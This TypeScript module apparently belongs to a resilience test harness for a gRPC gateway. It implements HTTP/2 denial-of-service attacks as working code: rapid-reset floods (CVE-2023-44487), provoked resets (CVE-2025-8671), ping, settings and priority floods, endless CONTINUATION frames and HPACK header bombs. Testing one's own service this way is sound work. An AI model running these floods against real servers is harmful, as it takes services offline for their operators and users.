import { setTimeout as delay } from 'node:timers/promises';
import {
  EMPTY_SETTINGS,
  frame,
  FrameFlag,
  FrameType,
  grpcHeaders,
  headersFrame,
  HPACK_NEWEST,
  hpackAddedLiteral,
  hpackLiterals,
  priorityFrame,
  ResetCode,
  resetFrame,
  windowUpdateFrame,
} from '../csi-frames.ts';
import { CREATE, HEALTH_CHECK } from './bodies.ts';
import type { Stranger } from './stranger.ts';

/* Attacks with frames: resets, floods, and headers. */

const BATCH = 100;
const FLOOD_BYTES = 256 * 1024;
const MAX_WINDOW_BYTES = 0x7fff_ffff;

const call = grpcHeaders(CREATE);

/** Starts calls and resets each at once.
 * @param code  of the resets */
function resetCalls(path: string, code: number): (stranger: Stranger) => Promise<void> {
  return startCalls((stream) =>
    Buffer.concat([headersFrame(stream, grpcHeaders(path)), resetFrame(stream, code)]),
  );
}

/** Starts health checks and resets each without an error before its body has come. */
export const resetHealthChecks = resetCalls(HEALTH_CHECK, ResetCode.none);

/** Starts complete calls and cancels each at once (CVE-2023-44487). */
export const resetRapidly = startCalls((stream) =>
  Buffer.concat([
    headersFrame(stream, grpcHeaders(CREATE), { endStream: true }),
    resetFrame(stream, ResetCode.cancel),
  ]),
);

/** What a caller can send on a stream that it has ended, so that the gateway resets it
 * (CVE-2025-8671). */
const PROVOCATIONS: readonly ((stream: number) => Buffer)[] = [
  (stream) => windowUpdateFrame(stream, 0),
  (stream) =>
    Buffer.concat([
      windowUpdateFrame(stream, MAX_WINDOW_BYTES),
      windowUpdateFrame(stream, MAX_WINDOW_BYTES),
    ]),
  (stream) => frame(FrameType.data, { stream, payload: Buffer.alloc(1) }),
  (stream) => priorityFrame(stream, stream),
];

/** Starts calls and makes the gateway reset each of them. */
function provokeResets(provocation: number): (stranger: Stranger) => Promise<void> {
  const provoke = PROVOCATIONS[provocation % PROVOCATIONS.length];
  return startCalls((stream) =>
    Buffer.concat([
      headersFrame(stream, grpcHeaders(CREATE), { endStream: true }),
      provoke?.(stream) ?? Buffer.alloc(0),
    ]),
  );
}

/** Makes the gateway reset calls in every way, one connection after another. */
export async function provokeAllResets(stranger: Stranger): Promise<void> {
  await provokeResets(stranger.rounds)(stranger);
}

/** Sends the same frame again and again. */
function flood(bytes: Buffer): (stranger: Stranger) => Promise<void> {
  const batch = Buffer.alloc(Math.ceil(FLOOD_BYTES / bytes.length) * bytes.length, bytes);
  return async (stranger) => {
    const connection = await stranger.open();
    for (;;) await connection.send(batch);
  };
}

export const floodPings = flood(frame(FrameType.ping, { payload: Buffer.alloc(8) }));
export const floodSettings = flood(EMPTY_SETTINGS);
export const floodPriorities = flood(priorityFrame(1, 3));

/** Starts headers and continues them without an end. */
export async function continueHeaders(stranger: Stranger): Promise<void> {
  const connection = await stranger.open();
  const stream = connection.newStream();
  const payload = hpackLiterals({ 'x-part': 'x'.repeat(16_000) });
  await connection.send(frame(FrameType.headers, { stream, payload: hpackLiterals(call) }));
  for (;;) await connection.send(frame(FrameType.continuation, { stream, payload }));
}

/** Sends headers that repeat one large entry of the gateway's header table many times. */
export async function bombHeaders(stranger: Stranger): Promise<void> {
  const connection = await stranger.open();
  for (;;) {
    const payload = Buffer.concat([
      hpackLiterals(call),
      hpackAddedLiteral('x-bomb', 'x'.repeat(3_900)),
      Buffer.alloc(12_000, HPACK_NEWEST),
    ]);
    const stream = connection.newStream();
    const flags = FrameFlag.endHeaders + FrameFlag.endStream;
    await connection.send(frame(FrameType.headers, { stream, flags, payload }));
    await delay(1);
  }
}

/** Sends headers of almost 16 KiB, alternating a single long one with many short ones. */
export async function sendLargeHeaders(stranger: Stranger): Promise<void> {
  const connection = await stranger.open();
  const long = { 'x-long': 'x'.repeat(15_000) };
  const many = Array.from({ length: 110 }, (_, i) => [`x-${i}`, 'x'.repeat(100)] as const);
  const payloads = [long, Object.fromEntries(many)].map((extra) =>
    hpackLiterals({ ...call, ...extra }),
  );
  const flags = FrameFlag.endHeaders + FrameFlag.endStream;
  for (;;) {
    const frames = payloads.map((payload) =>
      frame(FrameType.headers, { stream: connection.newStream(), flags, payload }),
    );
    await connection.send(...frames);
    await delay(1);
  }
}

/** Sends batches of what starts a call and does something to it. */
function startCalls(bytesOf: (stream: number) => Buffer): (stranger: Stranger) => Promise<void> {
  return async (stranger) => {
    const connection = await stranger.open();
    for (;;) {
      const calls = Array.from({ length: BATCH }, () => bytesOf(connection.newStream()));
      await connection.send(...calls);
      await delay(1);
    }
  };
}
